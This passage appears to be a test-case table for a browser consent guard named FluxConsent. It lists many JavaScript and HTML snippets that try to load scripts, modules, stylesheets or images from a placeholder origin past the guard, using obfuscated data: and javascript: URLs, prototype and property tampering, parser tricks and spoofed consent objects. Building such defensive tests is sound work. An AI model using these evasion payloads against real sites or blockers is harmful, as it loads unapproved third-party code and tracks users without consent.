    'variable-second': `body{--u:linear-gradient(red,red) 9x,"{{o}}/p.gif" 1x;background:image-set(var(--u))}`,
    'variable-comment': `body{--u:/**/"{{o}}/p.gif";background:image-set(var(--u) 1x)}`,
    function: `@function --u(){result:"{{o}}/p.gif"}body{background:image-set(--u() 1x)}`,
  }).map(([id, text]) => [`style-${id}`, 'R', `<style>${text}</style>`] as const),
  ['property-http-alone', 'R', js(`document.body.style.backgroundImage='url(http:{{h}}/p.gif)'`)],
  [
    'style-svg-text-data',
    'R',
    `<svg><style id="z">p{}</style></svg>${js(
      `onload=()=>{z.firstChild.data='body{background:url({{o}}/p.gif)}'}`,
    )}`,
  ],
  ...Object.entries({
    text: `{backgroundImage:[o,o]}`,
    list: `[{backgroundImage:new String(o)},{backgroundImage:o}]`,
  }).map(
    ([id, frames]) =>
      [
        `animate-object-${id}`,
        'R',
        js(`var o={toString:()=>'url({{o}}/p.gif)'};document.body.animate(${frames},5000)`),
      ] as const,
  ),
  // Unusual spellings of frames and scripts.
  ...Object.entries({
    tab: `'da\\tta:text/html,'+D`,
    control: `'\\u0001data:text/html,'+D`,
    percent: `'data:text/html,<p>100%</p>'+D.replaceAll('/','%2f')`,
    'base64-percent': `'data:text/html;base64,'+btoa(D+' '.repeat((4-D.length%3)%3)).replaceAll('=','%3D')`,
    'base64-space': `'data:text/html; base64,'+btoa(D)`,
    entities: `'data:text/html,'+D.replace('//','&sol;&sol;')`,
    'utf-16': `'data:text/html;charset=utf-16le;base64,'+btoa([...D.replace('src','charset="utf-8" src')].map(c=>c+'\\0').join(''))`,
  }).map(
    ([id, at]) =>
      [
        `frame-data-${id}`,
        'XR',
        js(`var D='<script src="{{o}}/x.js"></scr'+'ipt>';${F}f.src=${at}`),
      ] as const,
  ),
  [
    'frame-data-markup-base64',
    'XR',
    `<div id="d"></div>${js(
      `var D='<script src="{{o}}/x.js"></scr'+'ipt>';d.innerHTML='<iframe src="data:text/html;base64,'+btoa(D)+'"></iframe>'`,
    )}`,
  ],
  ['frame-program-tab', 'XR', js(`${F}f.src='java\\tscript:void import("{{o}}/m.mjs"),1'`)],
  [
    'importmap-code',
    'XR',
    js(
      `var m=document.createElement('script');m.type='importmap';m.textContent='{"imports":{"lib":"https:\\\\u002f\\\\u002f{{h}}/m.mjs"}}';document.head.append(m);${S}s.type='module';s.textContent="import 'lib'";document.head.append(s)`,
    ),
  ],
  [
    'module-code',
    'XR',
    js(
      `${S}s.type='module';s.textContent='import "https:\\\\x2f\\\\x2f{{h}}/m.mjs"';document.head.append(s)`,
    ),
  ],
  // Page code that runs in the middle of its own call to the guard.
  ...Object.entries({
    append: `document.body.append(s,late())`,
    'append-first': `document.body.append(late(),s)`,
    prepend: `document.body.prepend(s,late())`,
    before: `document.body.firstChild.before(s,late())`,
    where: `document.body.insertAdjacentElement(late('beforeend'),s)`,
    'where-before': `document.body.firstElementChild.insertAdjacentElement(late('afterend'),s)`,
    select: `var l=document.createElement('select'),p=document.createElement('option');document.body.append(l);p.append(s);l.add(p,late(0))`,
    fragment: `var p=document.createElement('p');p.append(s);document.body.replaceChildren(p,late())`,
  }).map(
    ([id, put]) =>
      [
        `within-${id}`,
        'XR',
        js(
          `${S}var late=(v='',done)=>({nodeType:3,toString:()=>(s.src='{{o}}/x.js',v),valueOf:()=>(s.src='{{o}}/x.js',v)});${put}`,
        ),
      ] as const,
  ),
  ...Object.entries({
    held: `self.FluxConsent?FluxConsent.on('held',act):act()`,
    'held-event': `self.FluxConsent?document.addEventListener('flux-consent:held',act):act()`,
  }).map(
    ([id, listen]) =>
      [
        `within-${id}`,
        'XR',
        js(
          `${S}var act=()=>{s.src='{{o}}/x.js'};${listen};var w=document.createElement('div'),f=document.createElement('iframe');f.src='{{o}}/f.html';w.append(f,s);document.body.append(w);self.FluxConsent?.held()[0]||act()`,
        ),
      ] as const,
  ),
  // Own properties that hide what an element is.
  ...Object.entries({
    'first-child': `d.append(s);hide(d,'firstElementChild',null)`,
    'node-type': `d.append(s);hide(d,'nodeType',3)`,
    'local-name': `d=s;hide(s,'localName','b')`,
    attributes: `d=s;hide(s,'localName','b');hide(s,'hasAttributes',()=>false)`,
    owner: `d.append(s);hide(d,'ownerDocument',document.implementation.createHTMLDocument())`,
    place: `d.append(s);hide(document.body,'isConnected',false);hide(document.body,'getRootNode',()=>({}))`,
    parent: `d.append(s);hide(document.body,'localName','template')`,
  }).map(
    ([id, prepare]) =>
      [
        `hidden-${id}`,
        'XR',
        js(
          `${S}s.src='{{o}}/x.js';var d=document.createElement('div'),hide=(e,k,value)=>Object.defineProperty(e,k,{value});${prepare};document.body.appendChild(d)`,
        ),
      ] as const,
  ),
  [
    'hidden-class',
    'XR',
    js(
      `${S}s.src='{{o}}/x.js';customElements.define('x-h',class extends HTMLElement{get firstElementChild(){return null}get localName(){return 'p'}get isConnected(){return false}});var d=document.createElement('x-h');d.append(s);document.body.appendChild(d)`,
    ),
  ],
  // Event handlers in the markup, on elements that load nothing.
  ...Object.entries({
    details: `<details open ontoggle="RUN">x</details>`,
    focus: `<a href="#x" autofocus onfocus="RUN">x</a>`,
    drawing: `<svg onload="RUN"></svg>`,
    animation: `<style>@keyframes k{to{top:0}}</style><p style="animation:k 1ms" onanimationend="RUN">x</p>`,
    deep: `<section><div><p><b><details open ontoggle="RUN">x</details></b></p></div></section>`,
    inner: `<b id="z"></b>${js(`z.innerHTML='<details open ontoggle="RUN">x</details>'`)}`,
    adjacent: js(`document.body.insertAdjacentHTML('beforeend','<details open ontoggle="RUN">x</details>')`),
    outer: `<b id="z"></b>${js(`z.outerHTML='<details open ontoggle="RUN">x</details>'`)}`,
    range: js(
      `document.body.append(document.createRange().createContextualFragment('<details open ontoggle="RUN">x</details>'))`,
    ),
    write: js(`document.write('<details open ontoggle="RUN">x</details>')`),
    template: `<template id="z"><details open ontoggle="RUN">x</details></template>${js(`document.body.append(z.content.cloneNode(true))`)}`,
    'template-itself': `<template id="z"><details open ontoggle="RUN">x</details></template>${js(`document.body.append(z.content)`)}`,
    shadow: `<div><template shadowrootmode="open"><details open ontoggle="RUN">x</details></template></div>`,
    parsed: js(
      `document.body.append(new DOMParser().parseFromString('<details open ontoggle="RUN">x</details>','text/html').body.firstChild)`,
    ),
  }).map(
    ([id, markup]) =>
      [`on-${id}`, 'XR', AT + markup.replaceAll('RUN', 'void import(d.dataset.at).catch(()=>{})')] as const,
  ),
  [
    'on-click',
    'XR',
    `${AT}<button id="go" onclick="void import(d.dataset.at).catch(()=>{})">go</button>`,
    { click: true },
  ],
  ['on-body', 'XR', AT, { head: `</head><body onload="void import(d.dataset.at).catch(()=>{})">` }],
  // Prototype properties that the guard reads, redefined.
  ...Object.entries({
    'list-length': [`NodeList.prototype`, 'length', '0'],
    records: [`MutationRecord.prototype`, 'addedNodes', '[]'],
    'record-type': [`MutationRecord.prototype`, 'type', `'attributes'`],
    'record-target': [`MutationRecord.prototype`, 'target', 'document'],
    children: [`Node.prototype`, 'childNodes', '[]'],
    parent: [`Node.prototype`, 'parentNode', 'document'],
    'first-child': [`Element.prototype`, 'firstElementChild', 'null'],
    'local-name': [`Element.prototype`, 'localName', `'p'`],
    'node-type': [`Node.prototype`, 'nodeType', '3'],
    connected: [`Node.prototype`, 'isConnected', 'false'],
    attributes: [`Element.prototype`, 'attributes', '[]'],
    text: [`Node.prototype`, 'textContent', `''`],
    shadow: [`Element.prototype`, 'shadowRoot', 'null'],
    state: [`Document.prototype`, 'readyState', `'complete'`],
    view: [`Document.prototype`, 'defaultView', 'null'],
    'attr-name': [`Attr.prototype`, 'name', `'title'`],
    'attr-value': [`Attr.prototype`, 'value', `''`],
    target: [`Event.prototype`, 'target', 'document'],
    data: [`CharacterData.prototype`, 'data', `''`],
  }).flatMap(([id, [owner, key, value]]) =>
    Object.entries({
      parsed: `<script src="{{o}}/x.js"></script>`,
      'parsed-deep': `<div><p><b><script src="{{o}}/x.js"></script></b></p></div>`,
      range: js(
        `document.body.append(document.createRange().createContextualFragment('<p><script src="{{o}}/x.js"></scr'+'ipt></p>'))`,
      ),
      code: js(
        `${S}s.src='{{o}}/x.js';var w=document.createElement('div');w.append(s);document.body.append(w)`,
      ),
      text: js(`${S}s.text="import('"+'{{o}}'+"/m.mjs').catch(()=>{})";document.body.append(s)`),
    }).map(
      ([way, rest]) =>
        [
          `reader-${id}-${way}`,
          'XR',
          `${js(`try{Object.defineProperty(${owner},'${key}',{get:()=>${value},configurable:true})}catch{}`)}${rest}`,
        ] as const,
    ),
  ),
  // The parser continues elsewhere, or what it inserted is moved or removed.
  ...Object.entries({
    foster: `<table><b>TAG</b><tr><td>x</td></tr></table>`,
    'foster-late': `<table><tr><td>x</td></tr>${js('0')}<b>TAG</b></table>`,
    behind: `<div>${js(`document.body.append(document.createElement('p'))`)}<b>TAG</b></div>`,
    'behind-many': `<div>${js(`for(var i=0;i<50;i++)document.body.append(document.createElement('p'))`)}<b>TAG</b>${js('0')}<i>TAG</i></div>`,
    removed: `${'<i></i>'.repeat(20)}${js(`for(var e of [...document.body.children])e.remove()`)}<b>TAG</b>`,
    'removed-itself': `<div>${js(`document.currentScript.remove()`).repeat(12)}<b>TAG</b></div>`,
    moved: `<div>${js(`document.body.prepend(document.currentScript)`)}<b>TAG</b></div>`,
    'moved-all': `<div><p></p><p></p>${js(`document.head.append(...document.querySelectorAll('p'))`)}<b>TAG</b></div>`,
    adopted: `<b><p>TAG</b>x</p>`,
    'adopted-deep': `<a><b><p><i>TAG</b>x</i></a>TAG</p>`,
    many: `${'<p>x</p>'.repeat(200)}<div><b>TAG</b></div>`,
    template: `<div>${js(`document.body.append(document.createElement('template'))`)}<b>TAG</b></div>`,
    foreign: `<svg><g>${js(`document.body.append(document.createElement('p'))`)}<foreignObject><b>TAG</b></foreignObject></g></svg>`,
    'shadow-root': `<div><template shadowrootmode="open"><p></p>${js(`document.body.append(document.createElement('p'))`)}<b>TAG</b></template></div>`,
  }).flatMap(([id, markup]) => [
    [`parse-${id}-image`, 'R', markup.replaceAll('TAG', '<img src="{{o}}/p.gif">')] as const,
    [`parse-${id}-script`, 'XR', markup.replaceAll('TAG', '<script src="{{o}}/x.js"></script>')] as const,
  ]),
  // An `<object>` whose properties the page redefines.
  ...Object.entries({
    throws: `Object.defineProperty(f,'type',{get(){throw 1}})`,
    hides: `Object.defineProperty(f,'type',{value:'text/html'});f.setAttribute('type','text/html')`,
    proxy: `Object.setPrototypeOf(f,new Proxy(HTMLObjectElement.prototype,{get(t,k){if(String(k).startsWith('data-'))throw 1;return Reflect.get(t,k,f)}}))`,
  }).map(
    ([id, act]) =>
      [
        `object-${id}`,
        'XR',
        js(
          `var f=document.createElement('object');f.data='own.html';f.setAttribute('type','text/html');${act};document.body.append(f)`,
        ),
        { files: { 'own.html': '<!doctype html><script src="{{o}}/x.js"></script>' } },
      ] as const,
  ),
  // SVG links: any prefix can stand for the XLink namespace.
  ...Object.entries({
    detached: `s.setAttributeNS(X,'x:href','{{o}}/x.js');g.append(s);document.body.append(g)`,
    node: `g.append(s);document.body.append(g);var a=document.createAttributeNS(X,'x:href');a.value='{{o}}/x.js';s.setAttributeNodeNS(a)`,
    'node-later': `g.append(s);document.body.append(g);var a=document.createAttributeNS(X,'x:href');s.setAttributeNodeNS(a);a.value='{{o}}/x.js'`,
  }).map(
    ([id, act]) =>
      [
        `prefix-${id}`,
        'XR',
        js(
          `var X='http://www.w3.org/1999/xlink',N='http://www.w3.org/2000/svg',g=document.createElementNS(N,'svg'),s=document.createElementNS(N,'script');${act}`,
        ),
      ] as const,
  ),
  // Own properties that hide attribute nodes, texts and what an element says of itself.
  ...Object.entries({
    'attribute-value': `${S}var a=document.createAttribute('src');a.value='{{o}}/x.js';hide(a,'value','own.js');s.setAttributeNode(a);document.body.append(s)`,
    'attribute-name': `${S}var a=document.createAttribute('src');a.value='{{o}}/x.js';hide(a,'name','title');document.body.append(s);s.setAttributeNode(a)`,
    'attribute-item': `${S}var a=document.createAttribute('src');a.value='{{o}}/x.js';hide(a,'name','title');document.body.append(s);s.attributes.setNamedItem(a)`,
    'attribute-owner': `${S}var a=document.createAttribute('src');document.body.append(s);s.setAttributeNode(a);hide(a,'ownerElement',null);a.value='{{o}}/x.js'`,
    'attribute-later': `${S}var a=document.createAttribute('src');hide(a,'name','title');document.body.append(s);s.setAttributeNode(a);a.value='{{o}}/x.js'`,
    'attribute-list': `${S}s.src='{{o}}/x.js';hide(s,'attributes',[]);document.body.append(s)`,
    'attribute-taken': `${S}s.src='{{o}}/x.js';hide(s.attributes[0],'name','title');document.body.append(s)`,
    text: `${S}s.text="import('"+'{{o}}'+"/m.mjs').catch(()=>{})";hide(s,'textContent','');hide(s,'text','');document.body.append(s)`,
    'text-inside': `${S}document.body.append(s);hide(s,'textContent','');s.text="import('"+'{{o}}'+"/m.mjs').catch(()=>{})"`,
    'text-added': `${S}document.body.append(s);var t=document.createTextNode("import('"+'{{o}}'+"/m.mjs').catch(()=>{})");hide(t,'data','');hide(t,'textContent','');s.append(t)`,
    base: `${S}var b=document.createElement('base');b.href='{{o}}/';document.head.append(b);hide(s,'baseURI',location.href);s.src='x.js';document.body.append(s)`,
    parser: `${S}hide(document,'readyState','complete');hide(document,'defaultView',null);s.src='{{o}}/x.js';document.body.append(s)`,
    window: `var f=document.createElement('iframe');hide(f,'contentWindow',null);hide(f,'contentDocument',null);document.body.append(f);var w=self[self.length-1],s=w.document.createElement('script');s.src='{{o}}/x.js';w.document.body.append(s)`,
    template: `${S}s.src='{{o}}/x.js';var t=document.createElement('template');t.content.append(s);var c=t.content;hide(c,'firstElementChild',null);hide(c,'querySelectorAll',()=>[]);document.body.append(c)`,
    'shadow-root': `${S}s.src='{{o}}/x.js';var h=document.createElement('div');h.attachShadow({mode:'open'}).append(s);hide(h,'shadowRoot',null);document.body.append(h)`,
  }).map(
    ([id, act]) =>
      [
        `hidden-${id}`,
        'XR',
        js(`var hide=(e,k,value)=>Object.defineProperty(e,k,{value,configurable:true});${act}`),
      ] as const,
  ),
  ...Object.entries({
    rel: `var l=document.createElement('link');hide(l,'rel','author');l.setAttribute('rel','stylesheet');l.href='{{o}}/s.css';document.head.append(l)`,
    refresh: `var m=document.createElement('link');hide(m,'rel','author');document.head.append(m);m.href='{{o}}/s.css';m.setAttribute('rel','preload');m.setAttribute('as','image')`,
    style: `var t=document.createElement('style');t.textContent='@import "{{o}}/s.css"';hide(t,'textContent','');document.head.append(t)`,
    'style-text': `var t=document.createElement('style');document.head.append(t);var n=document.createTextNode('@import "{{o}}/s.css"');hide(n,'data','');hide(n,'textContent','');t.append(n)`,
    media: `var v=document.createElement('video');hide(v,'localName','p');hide(v,'parentNode',null);v.poster='{{o}}/p.gif';document.body.append(v)`,
    source: `var p=document.createElement('picture'),o=document.createElement('source'),i=document.createElement('img');hide(o,'parentElement',null);hide(o,'localName','p');p.append(o,i);document.body.append(p);o.srcset='{{o}}/p.gif'`,
  }).map(
    ([id, act]) =>
      [
        `hidden-${id}`,
        'R',
        js(`var hide=(e,k,value)=>Object.defineProperty(e,k,{value,configurable:true});${act}`),
      ] as const,
  ),
  // Handlers and javascript: links that are set by other ways than `setAttribute`.
  ...Object.entries({
    'handler-node': `var a=document.createAttribute('onclick');a.value=code;d.setAttributeNode(a)`,
    'handler-node-ns': `var a=document.createAttribute('onclick');a.value=code;d.setAttributeNodeNS(a)`,
    'handler-item': `var a=document.createAttribute('onclick');a.value=code;d.attributes.setNamedItem(a)`,
    'handler-node-later': `var a=document.createAttribute('onclick');d.setAttributeNode(a);a.value=code`,
    'handler-node-text': `d.setAttribute('onclick','');d.getAttributeNode('onclick').nodeValue=code`,
    'handler-node-content': `d.setAttribute('onclick','');d.getAttributeNode('onclick').textContent=code`,
    'handler-ns': `d.setAttributeNS(null,'onclick',code)`,
    'handler-upper-case': `d.setAttribute('ONCLICK',code)`,
    'link-property': `d.href='javascript:'+code`,
    'link-attribute': `d.setAttribute('href','javascript:'+code)`,
    'link-tab': `d.setAttribute('href','java\\tscript:'+code)`,
    'link-node': `var a=document.createAttribute('href');a.value='javascript:'+code;d.setAttributeNode(a)`,
    'link-percent': `d.href='javascript:'+encodeURI(code).replaceAll('(','%28')`,
  }).map(
    ([id, put]) =>
      [
        `set-${id}`,
        'XR',
        `${AT}${js(`var at=document.querySelector('i').dataset.at,code="void import(at).catch(()=>{})",d=document.createElement('a');document.body.append(d);${put};d.click()`)}`,
      ] as const,
  ),
  [
    'set-form-program',
    'XR',
    AT +
      js(
        `var at=document.querySelector('i').dataset.at,f=document.createElement('form');document.body.append(f);f.action="javascript:void import(at).catch(()=>{})";f.submit()`,
      ),
  ],
  // A frame that pretends to have a consent of its own.
  ...Object.entries({
    value: `w.FluxConsent={destroy(){}}`,
    define: `Object.defineProperty(w,'FluxConsent',{value:{destroy(){}}})`,
    ours: `w.FluxConsent=self.FluxConsent`,
    script: `var t=w.document.createElement('script');t.textContent='FluxConsent={destroy(){}}';w.document.body.append(t)`,
    write: `w.document.write('<script>FluxConsent={destroy(){}}</scr'+'ipt>')`,
    eval: `w.eval('FluxConsent={destroy(){}}')`,
    srcdoc: `f.srcdoc='<script>FluxConsent={destroy(){}}</scr'+'ipt>'`,
    parent: `self.FluxConsent&&(w.FluxConsent={destroy:parent.FluxConsent.destroy,push:parent.FluxConsent.push})`,
  }).map(
    ([id, claim]) =>
      [
        `claim-${id}`,
        'XR',
        js(
          `${F}var w=f.contentWindow;${claim};setTimeout(()=>{w=f.contentWindow;var s=w.document.createElement('script');s.src='{{o}}/x.js';w.document.documentElement.append(s)},200)`,
        ),
      ] as const,
  ),
  ...Object.entries({
    value: `w.FluxConsent={destroy(){}}`,
    script: `var t=w.document.createElement('script');t.textContent='FluxConsent={destroy(){}}';w.document.body.append(t)`,
    'write-hidden': `Object.defineProperty(w.document,'currentScript',{value:1});w.document.open();w.document.write('<script>FluxConsent={destroy(){}}</scr'+'ipt>')`,
    write: `w.document.open();w.document.write('<script>FluxConsent={destroy(){}}</scr'+'ipt>')`,
  }).map(
    ([id, claim]) =>
      [
        `claim-page-${id}`,
        'XR',
        js(
          `${F}f.onload=()=>{f.onload=null;var w=f.contentWindow;${claim};var s=w.document.createElement('script');s.src='{{o}}/x.js';w.document.documentElement.append(s)};f.src='own.html'`,
        ),
        { files: { 'own.html': '<!doctype html><p>own' } },
      ] as const,
  ),
]);
